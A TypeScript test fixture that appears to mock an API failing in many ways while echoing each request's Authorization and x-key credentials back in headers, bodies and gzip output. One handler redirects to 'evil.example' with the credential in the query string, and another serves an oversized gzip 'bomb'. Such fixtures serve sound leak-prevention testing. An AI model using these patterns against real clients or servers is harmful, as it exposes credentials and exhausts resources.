// An API that fails in every way, and tells everything that it was sent while it does.
import type { IncomingMessage, ServerResponse } from "node:http";
import { gzipSync } from "node:zlib";

/** `told` is JSON; `bare` is the same text as it is. */
type Failing = (response: ServerResponse, told: string, bare: string) => void;

const status =
  (code: number, type = "application/json"): Failing =>
  (response, told, bare) => {
    response.writeHead(code, {
      "content-type": type,
      "x-echo": told,
      "www-authenticate": `Bearer error="invalid_token", error_description="${encodeURIComponent(bare)}"`,
      "x-oauth-scopes": told,
    });
    response.end(type === "text/html" ? `<html><title>${told}</title>${told}</html>` : told);
  };

/** How the API fails, by the id of the thing that is asked for. */
export const failures: { readonly [id: string]: Failing } = {
  ok: status(200),
  "ok-text": status(200, "text/plain"),
  "ok-binary": status(200, "application/octet-stream"),
  "status-400": status(400),
  "status-401": status(401),
  "status-401-text": status(401, "text/plain"),
  "status-403": status(403),
  "status-403-html": status(403, "text/html"),
  "status-404": status(404),
  "status-500": status(500),
  "status-503": status(503),
  encoded: (response, _told, bare) => {
    response.writeHead(500, { "content-type": "text/plain" });
    response.end(encodeURIComponent(bare));
  },
  zipped: (response, told) => {
    response.writeHead(403, { "content-type": "application/json", "content-encoding": "gzip" });
    response.end(gzipSync(told));
  },
  redirect: (response, told, bare) => {
    response.writeHead(302, { location: `https://evil.example/?t=${encodeURIComponent(bare)}` });
    response.end(told);
  },
  killed: (response) => void response.socket?.destroy(),
  midway: (response, told) => {
    response.writeHead(200, { "content-type": "application/json", "content-length": "100000" });
    response.write(told, () => response.socket?.destroy());
  },
  silent: () => {},
  stalled: (response, told) => {
    response.writeHead(200, { "content-type": "application/json" });
    response.write(told);
  },
  bomb: (response, told) => {
    response.writeHead(200, { "content-type": "text/plain", "content-encoding": "gzip" });
    response.end(gzipSync(told.padEnd(2_000_000)));
  },
  nested: (response, told) => {
    response.writeHead(200, { "content-encoding": "gzip, gzip", "x-echo": told });
    response.end(gzipSync(gzipSync(told)));
  },
  garbage: (response, told) => void response.socket?.end(`no HTTP ${told}\r\n\r\n`),
  // Last, since the credential is not sent again for a while.
  "status-429": status(429),
};

/** Tells the credentials of a request back; `seen` gets what it was sent. */
export function telltale(seen: string[]) {
  return (request: IncomingMessage, response: ServerResponse): void => {
    const { authorization = "", "x-key": key = "" } = request.headers;
    const told = JSON.stringify({ message: `${authorization} ${String(key)}`, authorization, key });
    seen.push(told);
    const id = request.url?.split(/[/?]/)[2] ?? "";
    (failures[id] ?? status(404))(response, told, `${authorization} ${String(key)}`);
  };
}
